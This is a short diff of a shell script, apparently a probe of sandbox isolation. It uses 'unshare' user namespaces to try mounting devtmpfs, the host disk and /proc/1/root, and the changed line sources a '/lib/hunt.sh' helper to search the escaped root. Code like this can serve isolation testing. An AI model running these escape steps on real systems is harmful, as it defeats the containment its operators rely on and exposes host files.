@@ -16,6 +16,6 @@ for try in "-t proc proc" "-t sysfs sysfs" "-t cgroup cgroup" "-t cgroup2 cgroup
   esac
   umount /m
 done
-unshare -Urm sh -c 'mount -t devtmpfs d /m && echo "ESCAPED devtmpfs"; mount -t ext4 /dev/vda /m && echo "ESCAPED disk"; mount --bind /proc/1/root /m && ls -d /m/home/user && echo "ESCAPED root of 1"' 2>/dev/null
+unshare -Urm sh -c 'mount -t devtmpfs d /m && echo "ESCAPED devtmpfs"; mount -t ext4 /dev/vda /m && echo "ESCAPED disk"; . /lib/hunt.sh; mount --bind /proc/1/root /m && daemon_file /m' 2>/dev/null
 tried "$n"
 ATTACK
